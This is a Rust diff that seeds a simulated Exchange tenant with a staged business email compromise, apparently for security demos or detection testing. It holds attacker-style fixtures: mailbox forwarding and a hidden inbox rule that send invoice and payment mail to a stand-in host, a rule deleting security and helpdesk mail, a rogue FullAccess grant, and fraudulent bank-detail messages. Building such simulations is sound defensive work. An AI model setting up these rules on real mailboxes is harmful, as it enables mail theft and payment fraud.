@@ -359,10 +359,80 @@ fn seed_contoso(t: &mut SimTenant, now: chrono::DateTime<chrono::Utc>) {
             "adelev@contoso.com",
         ),
     ];
+    seed_contoso_exchange(t, now);
     t.managed_devices = vec![
         json!({"id": synthetic_guid("dev-adele"), "deviceName": "ADELE-LAPTOP", "operatingSystem": "Windows", "osVersion": "10.0.22631",
                "complianceState": "compliant", "userPrincipalName": "adelev@contoso.com", "enrolledDateTime": days(120), "lastSyncDateTime": hours(3)}),
         json!({"id": synthetic_guid("dev-megan"), "deviceName": "MEGAN-PHONE", "operatingSystem": "iOS", "osVersion": "17.5",
                "complianceState": "compliant", "userPrincipalName": DEMO_COMPROMISED_UPN, "enrolledDateTime": days(90), "lastSyncDateTime": hours(5)}),
     ];
+}
+
+fn seed_contoso_exchange(t: &mut SimTenant, now: chrono::DateTime<chrono::Utc>) {
+    use serde_json::json;
+    let hours = |h: i64| ts(now - chrono::Duration::hours(h));
+    crate::exchange::seed_from_users(t);
+    let megan = DEMO_COMPROMISED_UPN;
+    if let Some(mb) = t
+        .exchange
+        .mailboxes
+        .iter_mut()
+        .find(|m| m["UserPrincipalName"] == json!(megan))
+    {
+        mb["ForwardingSmtpAddress"] = json!("smtp:collector@evil-mail.example");
+        mb["DeliverToMailboxAndForward"] = json!(true);
+        mb["TotalItemSize"] = json!("52.3 GB (56,156,954,214 bytes)");
+    }
+    let rules = t.exchange.inbox_rules.entry(megan.to_owned()).or_default();
+    rules.push(json!({"Identity": format!("{megan}\\11794723498573471745"), "Name": "..", "Enabled": true, "Priority": 1,
+        "ForwardTo": ["\"collector@evil-mail.example\" [SMTP:collector@evil-mail.example]"], "MoveToFolder": "RSS Feeds",
+        "MarkAsRead": true, "StopProcessingRules": true, "SubjectOrBodyContainsWords": ["invoice", "payment", "wire"],
+        "Description": "If the message includes 'invoice' or 'payment' or 'wire' in the subject or body, forward the message to collector@evil-mail.example, move it to RSS Feeds, mark it as read and stop processing more rules"}));
+    rules.push(json!({"Identity": format!("{megan}\\11794723498573471746"), "Name": ".", "Enabled": true, "Priority": 2,
+        "DeleteMessage": true, "FromAddressContainsWords": ["security@contoso.com", "helpdesk"], "IsHidden": true,
+        "Description": "If the message was sent by security@contoso.com or helpdesk, delete the message"}));
+    rules.push(json!({"Identity": format!("{megan}\\11794723498573471747"), "Name": "Newsletters", "Enabled": true, "Priority": 3,
+        "MoveToFolder": "Newsletters", "FromAddressContainsWords": ["news@"]}));
+    t.exchange.mailbox_permissions.push(
+        json!({"Identity": megan, "User": "alexw@contoso.com", "AccessRights": ["FullAccess"],
+        "IsInherited": false, "Deny": false, "AutoMapping": false}),
+    );
+    t.exchange.mobile_devices.insert(megan.to_owned(), vec![
+        json!({"Identity": format!("{megan}\\ExchangeActiveSyncDevices\\iPhone§abc"), "FriendlyName": "Megan's iPhone", "DeviceModel": "iPhone15,2",
+               "DeviceOS": "iOS 17.5", "DeviceAccessState": "Allowed", "FirstSyncTime": ts(now - chrono::Duration::days(90))}),
+        json!({"Identity": format!("{megan}\\ExchangeActiveSyncDevices\\Android§xyz"), "FriendlyName": "Android", "DeviceModel": "Unknown",
+               "DeviceOS": "Android 12", "DeviceAccessState": "Allowed", "FirstSyncTime": hours(39)}),
+    ]);
+    let record = |op: &str, at: String, user: &str, data: serde_json::Value| {
+        json!({"RecordType": "ExchangeAdmin", "CreationDate": at, "UserIds": user, "Operations": op,
+               "AuditData": data.to_string(), "Identity": synthetic_guid(&format!("{op}{user}"))})
+    };
+    t.exchange.audit_records = vec![
+        record(
+            "New-InboxRule",
+            hours(39),
+            megan,
+            json!({"Operation": "New-InboxRule", "UserId": megan, "ClientIP": "198.51.100.66",
+            "Parameters": [{"Name": "Name", "Value": ".."}, {"Name": "ForwardTo", "Value": "collector@evil-mail.example"}, {"Name": "MoveToFolder", "Value": "RSS Feeds"}]}),
+        ),
+        record(
+            "Set-Mailbox",
+            hours(38),
+            megan,
+            json!({"Operation": "Set-Mailbox", "UserId": megan, "ClientIP": "198.51.100.66",
+            "Parameters": [{"Name": "ForwardingSmtpAddress", "Value": "smtp:collector@evil-mail.example"}, {"Name": "DeliverToMailboxAndForward", "Value": "True"}]}),
+        ),
+        record(
+            "Add-MailboxPermission",
+            hours(37),
+            megan,
+            json!({"Operation": "Add-MailboxPermission", "UserId": megan, "ObjectId": megan,
+            "Parameters": [{"Name": "User", "Value": "alexw@contoso.com"}, {"Name": "AccessRights", "Value": "FullAccess"}]}),
+        ),
+    ];
+    t.exchange.message_traces = (0..5)
+        .map(|i| json!({"MessageTraceId": synthetic_guid(&format!("trace-{i}")), "Received": hours(36 - i),
+            "SenderAddress": megan, "RecipientAddress": format!("accounts{i}@supplier-payments.example"),
+            "Subject": "Updated bank details for invoice payment", "Status": "Delivered", "FromIP": "198.51.100.66"}))
+        .collect();
 }
